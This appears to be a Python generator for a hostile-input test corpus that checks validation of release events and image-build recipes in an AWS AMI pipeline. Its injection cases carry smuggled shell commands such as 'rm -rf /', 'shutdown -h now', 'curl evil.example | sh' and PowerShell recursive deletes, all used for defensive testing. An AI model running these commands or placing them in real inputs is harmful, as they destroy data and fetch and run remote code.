"""Writes the hostile-input corpus: bad release/schedule events and bad recipes, each with the field its error
must name. Run once after changing the cases: `python3 tests/corpus/generate.py`. The trigger's corpus test
(functions/trigger/tests/corpus.rs) feeds every file through the real handler with mocked AWS and checks the
error names the field and that no mutating call was made."""
import copy
import json
import pathlib

here = pathlib.Path(__file__).parent
root = here.parents[1]
release = json.loads((root / "infra/events/release.json").read_text())
recipe = json.loads((root / "infra/recipes/al2023-web.json").read_text())


def ev(detail=None, **top):
    e = copy.deepcopy(release)
    if detail is not None:
        e["detail"] = detail
    e.update(top)
    return e


def d(**kw):
    base = {"pipeline": "web", "version": "1.4.0"}
    base.update(kw)
    return {k: v for k, v in base.items() if v is not DROP}


DROP = object()
events = [
    # wrong types
    ("version-number", ev(d(version=140)), "event.detail.version"),
    ("version-null", ev(d(version=None)), "event.detail.version"),
    ("version-array", ev(d(version=["1"])), "event.detail.version"),
    ("pipeline-number", ev(d(pipeline=7)), "event.detail.pipeline"),
    ("pipeline-object", ev(d(pipeline={"a": 1})), "event.detail.pipeline"),
    ("commit-number", ev(d(commit=1234567)), "event.detail.commit"),
    ("artifact-bool", ev(d(artifact=True)), "event.detail.artifact"),
    ("detail-string", ev("web 1.4.0"), "event.detail"),
    ("detail-array", ev(["web", "1.4.0"]), "event.detail"),
    ("detail-type-number", ev(**{"detail-type": 5}), "event.detail-type"),
    ("time-garbage", ev(time="yesterday"), "event.time"),
    # missing fields
    ("version-missing", ev(d(version=DROP)), "event.detail"),
    ("pipeline-missing", ev(d(pipeline=DROP)), "event.detail"),
    ("detail-empty", ev({}), "event.detail"),
    ("source-missing", {k: v for k, v in release.items() if k != "source"}, "event"),
    # wrong kind of event
    ("detail-type-other", ev(**{"detail-type": "Release Created"}), "event.detail-type"),
    ("detail-type-scheduled", ev(**{"detail-type": "Scheduled Event"}), "event.detail-type"),
    ("detail-type-empty", ev(**{"detail-type": ""}), "event.detail-type"),
    ("detail-extra-field", ev(d(branch="main")), "event.detail.branch"),
    ("detail-typo", ev(d(version=DROP, verison="1.4.0")), "event.detail.verison"),
    # huge strings
    ("version-huge", ev(d(version="1" * 10000)), "event.detail.version"),
    ("pipeline-huge", ev(d(pipeline="w" * 1000)), "event.detail.pipeline"),
    ("artifact-huge", ev(d(artifact="s3://b/" + "a" * 5000)), "event.detail.artifact"),
    ("commit-huge", ev(d(commit="a" * 41)), "event.detail.commit"),
    ("version-empty", ev(d(version="")), "event.detail.version"),
    ("pipeline-empty", ev(d(pipeline="")), "event.detail.pipeline"),
    # unicode
    ("version-unicode", ev(d(version="1.4.0-ü")), "event.detail.version"),
    ("version-rtl-override", ev(d(version="1.4.0\u202egnp")), "event.detail.version"),
    ("version-zero-width", ev(d(version="1.4\u200b.0")), "event.detail.version"),
    ("pipeline-unicode", ev(d(pipeline="wéb")), "event.detail.pipeline"),
    ("pipeline-emoji", ev(d(pipeline="web-🚀")), "event.detail.pipeline"),
    ("pipeline-uppercase", ev(d(pipeline="Web")), "event.detail.pipeline"),
    ("pipeline-path", ev(d(pipeline="../other")), "event.detail.pipeline"),
    ("pipeline-slash", ev(d(pipeline="web/../../x")), "event.detail.pipeline"),
    ("commit-not-hex", ev(d(commit="zzzzzzz")), "event.detail.commit"),
    ("commit-short", ev(d(commit="abc")), "event.detail.commit"),
    # injection into the provisioning script through template variables
    ("version-subshell", ev(d(version="1.4.0$(reboot)")), "event.detail.version"),
    ("version-backticks", ev(d(version="1.4.0`id`")), "event.detail.version"),
    ("version-semicolon", ev(d(version="1.4.0;rm -rf /")), "event.detail.version"),
    ("version-newline", ev(d(version="1.4.0\nshutdown -h now")), "event.detail.version"),
    ("version-quote", ev(d(version="1.4.0' && curl evil.example | sh; '")), "event.detail.version"),
    ("version-double-quote", ev(d(version='1.4.0" && id; "')), "event.detail.version"),
    ("version-ifs", ev(d(version="${IFS}x")), "event.detail.version"),
    ("version-heredoc", ev(d(version="AMI_PIPELINE_SCRIPT_END")), None),
    ("version-powershell", ev(d(version="1.4.0'; Remove-Item C:\\ -Recurse; '")), "event.detail.version"),
    ("version-leading-dash", ev(d(version="-rf")), "event.detail.version"),
    ("version-space", ev(d(version="1.4 0")), "event.detail.version"),
    ("version-nul", ev(d(version="1.4.0\u0000x")), "event.detail.version"),
    ("artifact-quote", ev(d(artifact="s3://b/app'.tgz")), "event.detail.artifact"),
    ("artifact-subshell", ev(d(artifact="https://x/$(id)")), "event.detail.artifact"),
    ("artifact-pipe", ev(d(artifact="s3://b/a|sh")), "event.detail.artifact"),
    ("artifact-ampersand", ev(d(artifact="s3://b/a&&id")), "event.detail.artifact"),
    ("artifact-space", ev(d(artifact="s3://b/a b")), "event.detail.artifact"),
    ("artifact-newline", ev(d(artifact="s3://b/a\nid")), "event.detail.artifact"),
    ("artifact-backtick", ev(d(artifact="s3://b/`id`")), "event.detail.artifact"),
    ("commit-injection", ev(d(commit="abcdef1;id")), "event.detail.commit"),
    # schedules
    ("schedule-missing-pipeline", {"scheduled_time": "2026-11-26T03:00:00Z"}, "event"),
    ("schedule-bad-time", {"pipeline": "web", "scheduled_time": "26/11/2026"}, "event.scheduled_time"),
    ("schedule-extra-field", {"pipeline": "web", "force": True}, "event.force"),
    ("schedule-pipeline-number", {"pipeline": 1}, "event.pipeline"),
    ("schedule-pipeline-injection", {"pipeline": "web;id"}, "event.pipeline"),
    # not an object at all
    ("array", [1, 2, 3], "event"),
    ("string", "Release Published", "event"),
    ("number", 42, "event"),
    ("null", None, "event"),
    ("empty-object", {}, "event"),
]
# A version that merely looks like the heredoc terminator is harmless: it is substituted into a single line.
events = [e for e in events if e[2] is not None]


def r(path, value):
    doc = copy.deepcopy(recipe)
    *parents, last = path
    node = doc
    for p in parents:
        node = node[p]
    if value is DROP:
        del node[last]
    else:
        node[last] = value
    return doc


recipes = [
    ("schema-version-2", r(["schema_version"], 2), "recipe.schema_version"),
    ("schema-version-string", r(["schema_version"], "1"), "recipe.schema_version"),
    ("name-uppercase", r(["name"], "Web"), "recipe.name"),
    ("name-huge", r(["name"], "w" * 300), "recipe.name"),
    ("name-unicode", r(["name"], "wéb"), "recipe.name"),
    ("unknown-top-field", r(["colour"], "blue"), "recipe.colour"),
    ("source-missing", r(["source"], DROP), "recipe"),
    ("source-two-ways", r(["source", "image", "id"], "ami-0123456789abcdef0"), "recipe.source.image"),
    ("source-no-way", r(["source", "image", "ssm_parameter"], DROP), "recipe.source.image"),
    ("owners-missing", r(["source", "image", "owners"], DROP), "recipe.source.image"),
    ("owners-empty", r(["source", "image", "owners"], []), "recipe.source.image.owners"),
    ("owners-bad-account", r(["source", "image", "owners"], ["12345"]), "recipe.source.image.owners[0]"),
    ("owners-anyone", r(["source", "image", "owners"], ["*"]), "recipe.source.image.owners[0]"),
    ("owners-all", r(["source", "image", "owners"], ["amazon", "all"]), "recipe.source.image.owners[1]"),
    ("source-id-bad", r(["source", "image"], {"id": "ami-xyz", "owners": ["amazon"]}), "recipe.source.image.id"),
    ("source-ssm-relative", r(["source", "image", "ssm_parameter"], "aws/service/x"), "recipe.source.image.ssm_parameter"),
    ("source-instance-bad-id", r(["source"], {"instance": {"id": "instance-1"}}), "recipe.source.instance.id"),
    ("source-both-kinds", r(["source"], {"image": {"id": "ami-0123456789abcdef0", "owners": ["amazon"]}, "instance": {"id": "i-0123456789abcdef0"}}), "recipe.source"),
    ("build-missing", r(["build"], DROP), "recipe.build"),
    ("instance-type-bad", r(["build", "instance_type"], "large"), "recipe.build.instance_type"),
    ("instance-type-number", r(["build", "instance_type"], 5), "recipe.build.instance_type"),
    ("subnet-bad", r(["build", "subnet_id"], "subnet-xyz"), "recipe.build.subnet_id"),
    ("security-group-bad", r(["build", "security_group_ids"], ["default"]), "recipe.build.security_group_ids[0]"),
    ("volume-type-bad", r(["build", "root_volume", "volume_type"], "ssd"), "recipe.build.root_volume.volume_type"),
    ("volume-size-huge", r(["build", "root_volume", "size_gib"], 99999), "recipe.build.root_volume.size_gib"),
    ("volume-size-negative", r(["build", "root_volume", "size_gib"], -1), "recipe.build.root_volume.size_gib"),
    ("data-volume-device-bad", r(["build", "data_volumes"], [{"device_name": "sdf; rm", "size_gib": 5}]), "recipe.build.data_volumes[0].device_name"),
    ("data-volume-duplicate", r(["build", "data_volumes"], [{"device_name": "/dev/sdf", "size_gib": 5}, {"device_name": "/dev/sdf", "size_gib": 6}]), "recipe.build.data_volumes[1].device_name"),
    ("timeout-zero", r(["build", "timeout_minutes"], 0), "recipe.build.timeout_minutes"),
    ("timeout-string", r(["build", "timeout_minutes"], "1h"), "recipe.build.timeout_minutes"),
    ("script-empty", r(["build", "script"], "   "), "recipe.build.script"),
    ("script-huge", r(["build", "script"], "echo x\n" * 3000), "recipe.build.script"),
    ("script-heredoc-breakout", r(["build", "script"], "true\nAMI_PIPELINE_SCRIPT_END\ncurl evil | sh"), "recipe.build.script"),
    ("script-powershell-breakout", r(["build", "script"], "Write-Host hi\n'@\nRemove-Item C:\\ -Recurse"), "recipe.build.script"),
    ("script-nul", r(["build", "script"], "echo a\u0000b"), "recipe.build.script"),
    ("script-typo-field", r(["build", "scrpit"], "echo"), "recipe.build.scrpit"),
    ("platform-bad", r(["build", "platform"], "macos"), "recipe.build.platform"),
    ("image-name-unknown-placeholder", r(["image", "name"], "{{pipeline}}-{{secret}}"), "recipe.image.name"),
    ("image-name-unclosed", r(["image", "name"], "{{pipeline"), "recipe.image.name"),
    ("image-name-huge", r(["image", "name"], "x" * 300), "recipe.image.name"),
    ("architecture-bad", r(["image", "architecture"], "sparc"), "recipe.image.architecture"),
    ("boot-mode-bad", r(["image", "boot_mode"], "bios"), "recipe.image.boot_mode"),
    ("tpm-without-uefi", r(["image", "tpm_support"], True), "recipe.image.tpm_support"),
    ("tag-aws-prefix", r(["image", "tags"], {"aws:cloudformation": "x"}), "recipe.image.tags.aws:cloudformation"),
    ("tag-our-prefix", r(["image", "tags"], {"ami-pipeline:state": "released"}), "recipe.image.tags.ami-pipeline:state"),
    ("tag-value-huge", r(["image", "tags"], {"team": "x" * 300}), "recipe.image.tags.team"),
    ("instance-store-no-manifest", r(["image", "root_device_type"], "instance-store"), "recipe.image.s3_manifest"),
    ("manifest-on-ebs", r(["image", "s3_manifest"], "s3://b/m.xml"), "recipe.image.s3_manifest"),
    ("description-control", r(["image", "description"], "a\u0007b"), "recipe.image.description"),
    ("test-timeout-huge", r(["test", "timeout_minutes"], 10000), "recipe.test.timeout_minutes"),
    ("test-instance-type-bad", r(["test", "instance_type"], "t3"), "recipe.test.instance_type"),
    ("region-does-not-exist", r(["distribution", "regions"], ["mars-north-1"]), "recipe.distribution.regions[0]"),
    ("region-typo", r(["distribution", "regions"], ["eu-west-l"]), "recipe.distribution.regions[0]"),
    ("region-uppercase", r(["distribution", "regions"], ["EU-WEST-1"]), "recipe.distribution.regions[0]"),
    ("region-duplicated", r(["distribution", "regions"], ["eu-west-1", "ap-southeast-2", "eu-west-1"]), "recipe.distribution.regions[2]"),
    ("region-not-string", r(["distribution", "regions"], [1]), "recipe.distribution.regions[0]"),
    ("kms-region-bad", r(["distribution", "kms_key_ids"], {"eu-west-9": "alias/x"}), "recipe.distribution.kms_key_ids.eu-west-9"),
    ("account-short", r(["distribution", "accounts"], ["12345678901"]), "recipe.distribution.accounts[0]"),
    ("account-long", r(["distribution", "accounts"], ["1234567890123"]), "recipe.distribution.accounts[0]"),
    ("account-letters", r(["distribution", "accounts"], ["12345678901a"]), "recipe.distribution.accounts[0]"),
    ("account-number", r(["distribution", "accounts"], [111122223333]), "recipe.distribution.accounts[0]"),
    ("account-duplicated", r(["distribution", "accounts"], ["111122223333", "111122223333"]), "recipe.distribution.accounts[1]"),
    ("public-by-account-all", r(["distribution", "accounts"], ["all"]), "recipe.distribution.accounts[0]"),
    ("public-flag-string", r(["distribution", "public"], "true"), "recipe.distribution.public"),
    # Encrypted snapshots cannot be made public; default-key ones cannot be shared (ModifySnapshotAttribute).
    ("public-encrypted", r(["distribution", "public"], True), "recipe.distribution.public"),
    ("shared-without-home-key", r(["image", "kms_key_id"], DROP), "recipe.image.kms_key_id"),
    ("shared-with-default-key", r(["distribution", "kms_key_ids"], {"eu-west-1": "alias/aws/ebs"}), "recipe.distribution.kms_key_ids.eu-west-1"),
    ("shared-copy-region-without-key", r(["distribution", "kms_key_ids"], {"eu-west-1": "alias/ami-pipeline-images"}), "recipe.distribution.kms_key_ids"),
    ("org-arn-bad", r(["distribution", "organization_arns"], ["o-123"]), "recipe.distribution.organization_arns[0]"),
    ("ou-arn-bad", r(["distribution", "organizational_unit_arns"], ["ou-123"]), "recipe.distribution.organizational_unit_arns[0]"),
    ("copy-timeout-small", r(["distribution", "copy_timeout_minutes"], 5), "recipe.distribution.copy_timeout_minutes"),
    ("ssm-param-relative", r(["publish", "ssm_parameters"], ["images/web"]), "recipe.publish.ssm_parameters[0]"),
    ("ssm-param-injection", r(["publish", "ssm_parameters"], ["/images/web;id"]), "recipe.publish.ssm_parameters[0]"),
    ("launch-template-region-bad", r(["publish", "launch_templates"], [{"id_or_name": "web", "region": "nowhere"}]), "recipe.publish.launch_templates[0].region"),
    ("keep-zero", r(["retention", "keep"], 0), "recipe.retention.keep"),
    ("keep-negative", r(["retention", "keep"], -3), "recipe.retention.keep"),
    ("deprecate-too-far", r(["retention", "deprecate_after_days"], 5000), "recipe.retention.deprecate_after_days"),
    ("refresh-bad", r(["refresh"], "sometimes"), "recipe.refresh"),
    ("default-version-injection", r(["default_version"], "1.0$(id)"), "recipe.default_version"),
]

for folder, cases in (("events", events), ("recipes", recipes)):
    out = here / folder
    out.mkdir(exist_ok=True)
    for old in out.glob("*.json"):
        old.unlink()
    manifest = {}
    for i, (name, doc, field) in enumerate(cases):
        fname = f"{i:03d}-{name}.json"
        (out / fname).write_text(json.dumps(doc, indent=1, ensure_ascii=False) + "\n")
        manifest[fname] = field
    (here / f"{folder}.expected.json").write_text(json.dumps(manifest, indent=1) + "\n")
    print(f"{len(cases)} {folder}")
